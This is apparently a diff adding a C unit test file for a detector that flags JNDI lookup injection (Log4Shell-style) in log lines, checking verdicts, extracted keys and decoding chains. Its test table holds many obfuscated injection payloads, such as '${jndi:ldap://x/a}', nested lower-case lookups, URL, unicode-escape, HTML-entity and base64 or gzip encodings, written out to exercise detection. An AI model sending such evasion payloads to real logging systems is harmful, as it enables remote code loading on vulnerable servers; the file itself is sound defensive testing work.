@@ -1,0 +1,154 @@
+/* Lines: the places to start from, closing what a cut left open, and every disguise. */
+#include "unit.h"
+
+#include "failalloc.h"
+#include "lookup/examine.h"
+
+static const struct {
+    const char *line;
+    enum verdict verdict;
+    const char *key;   /* NULL: not compared */
+    const char *chain; /* names joined by spaces */
+} cases[] = {
+    {"GET / HTTP/1.1", VERDICT_NONE, "", ""},
+    {"10.0.0.1 \"${jndi:ldap://x/a}\"", VERDICT_REACHES, "ldap://x/a", ""},
+    {"a ${b ${jndi:c}", VERDICT_REACHES, "c", ""},   /* a later start */
+    {"$${jndi:a}", VERDICT_ATTEMPT, "", ""},         /* escaped, and meant */
+    {"${ jndi:ldap://x}", VERDICT_ATTEMPT, "", ""},  /* misspelt */
+    {"${base64:JHtqbmRp}", VERDICT_ATTEMPT, "", ""}, /* no such lookup */
+    {"${jndi:ldap://x/a", VERDICT_IF_CLOSED, "ldap://x/a", ""},
+    {"${${lower:j}ndi:", VERDICT_IF_CLOSED, "", ""},
+    {"${java:zz}${jndi:x}", VERDICT_REACHES, "x", ""}, /* what is logged may begin behind */
+    {"image=${TAG:-latest} adding node indices: {}", VERDICT_NONE, "", ""},
+    {"${jnd${lower:\xc4\xb0}:a}", VERDICT_REACHES, "a", ""},
+    {"%24%7Bjndi%3Ax%7D", VERDICT_REACHES, "x", "url"},
+    {"%2524%257Bjndi:x%257D", VERDICT_REACHES, "x", "url url"},
+    {"%u0024%u007bjndi:x%u007d", VERDICT_REACHES, "x", "url"},
+    {"\\u0024\\u007bjndi:x\\u007d", VERDICT_REACHES, "x", "backslash"},
+    {"\\\\u0024{jndi:x}", VERDICT_REACHES, "x", "backslash"},
+    {"\\uu0024\\u{7b}jndi:x}", VERDICT_REACHES, "x", "backslash"},
+    {"\\x24\\173jndi:x\\x7D", VERDICT_REACHES, "x", "backslash"},
+    {"${jndi:ldap:\\/\\/x}", VERDICT_REACHES, NULL, ""},
+    {"&#36;&#x7b;jndi&colon;x&rcub;", VERDICT_REACHES, "x", "entity"},
+    {"&dollar{jndi:x}", VERDICT_REACHES, "x", "entity"},
+    {"%24&lcub;\\u006Andi:x}", VERDICT_REACHES, "x", "url backslash entity"},
+    {"q=JHtqbmRpOmxkYXA6Ly94L2F9", VERDICT_REACHES, "ldap://x/a", "base64"},
+    {"/path/xJHtqbmRpOmxkYXA6Ly94L2F9", VERDICT_REACHES, "ldap://x/a", "base64"},
+    {"H4sIAAAAAAAC/1OpzspLybTKSUkssNLXr9BPrAUAr5FHcxIAAAA=", VERDICT_REACHES, "ldap://x/a",
+     "base64"},
+    {"JTI0JTdCam5kaTp4JTdE", VERDICT_REACHES, "x", "base64 url"},
+    {"$url${", VERDICT_NONE, "", ""},
+};
+
+static void assert_examined(struct examiner *x, size_t i)
+{
+    struct examined r;
+    char chain[128] = "";
+    size_t n = 0;
+    assert_ok(examine(x, slice_str(cases[i].line), &r));
+    for (size_t k = 0; k < r.chain_count; k++)
+        n += (size_t)snprintf(chain + n, sizeof chain - n, "%s%s", k ? " " : "", r.chain[k]);
+    if (r.verdict != cases[i].verdict)
+        fail_msg("%s: %s", cases[i].line, verdict_name(r.verdict));
+    if (r.verdict >= VERDICT_IF_CLOSED && strcmp(chain, cases[i].chain) != 0)
+        fail_msg("%s: by %s", cases[i].line, chain);
+    if (r.verdict >= VERDICT_IF_CLOSED && cases[i].key && !slice_eq_str(r.key, cases[i].key))
+        fail_msg("%s: key %.*s", cases[i].line, (int)r.key.n, (const char *)r.key.p);
+}
+
+static void lines_are_judged(void **state)
+{
+    (void)state;
+    struct examiner *x = NULL;
+    assert_ok(examiner_new(&x));
+    for (size_t i = 0; i < ARRAY_LEN(cases); i++)
+        assert_examined(x, i);
+    examiner_free(x);
+}
+
+static void utf16_is_read(void **state)
+{
+    (void)state;
+    static const char text[] = "${jndi:x}";
+    uint8_t wide[2 * sizeof text];
+    struct examiner *x = NULL;
+    struct examined r;
+    assert_ok(examiner_new(&x));
+    for (size_t order = 0; order < 2; order++) {
+        memset(wide, 0, sizeof wide);
+        for (size_t i = 0; i + 1 < sizeof text; i++)
+            wide[2 * i + order] = (uint8_t)text[i];
+        assert_ok(examine(x, slice_of(wide, 2 * (sizeof text - 1)), &r));
+        assert_int_equal(r.verdict, VERDICT_REACHES);
+        assert_slice_equal(r.key, "x");
+    }
+    examiner_free(x);
+}
+
+/* What the budget does not reach is an attempt. */
+static void too_much_is_an_attempt(void **state)
+{
+    (void)state;
+    struct examiner *x = NULL;
+    struct examined r;
+    struct buf b;
+    buf_init(&b, 1 << 20);
+    assert_ok(examiner_new(&x));
+    for (int i = 0; i < 24; i++)
+        (void)buf_add_str(&b, "${lower:${q ");
+    (void)buf_add_str(&b, "${jn${q}di:");
+    for (int i = 0; i < 50; i++)
+        (void)buf_add_char(&b, '}');
+    assert_ok(examine(x, buf_slice(&b), &r));
+    assert_int_equal(r.verdict, VERDICT_ATTEMPT);
+    assert_int_equal(r.reason, ATTEMPT_BUDGET);
+    buf_done(&b);
+    examiner_free(x);
+}
+
+static void cut_at_every_byte(void **state)
+{
+    (void)state;
+    struct examiner *x = NULL;
+    struct examined r;
+    assert_ok(examiner_new(&x));
+    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
+        for (size_t cut = 0; cut < strlen(cases[i].line); cut++) {
+            uint8_t *exact = malloc(cut ? cut : 1);
+            assert_non_null(exact);
+            memcpy(exact, cases[i].line, cut);
+            assert_ok(examine(x, slice_of(exact, cut), &r));
+            free(exact);
+        }
+    }
+    examiner_free(x);
+}
+
+static void memory_runs_out(void **state)
+{
+    (void)state;
+    for (unsigned long n = 1;; n++) {
+        struct examiner *x = NULL;
+        struct examined r;
+        enum status st;
+        failalloc_at(n);
+        st = examiner_new(&x);
+        if (st == OK)
+            st = examine(x, SLICE_LIT("q=%24{lower:${a JTI0JTdCam5kaTp4JTdE"), &r);
+        bool hit = failalloc_hit();
+        assert_int_equal(st, hit ? ST_NOMEM : OK);
+        examiner_free(x);
+        if (!hit)
+            break;
+    }
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(lines_are_judged),       cmocka_unit_test(utf16_is_read),
+        cmocka_unit_test(too_much_is_an_attempt), cmocka_unit_test(cut_at_every_byte),
+        cmocka_unit_test(memory_runs_out),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
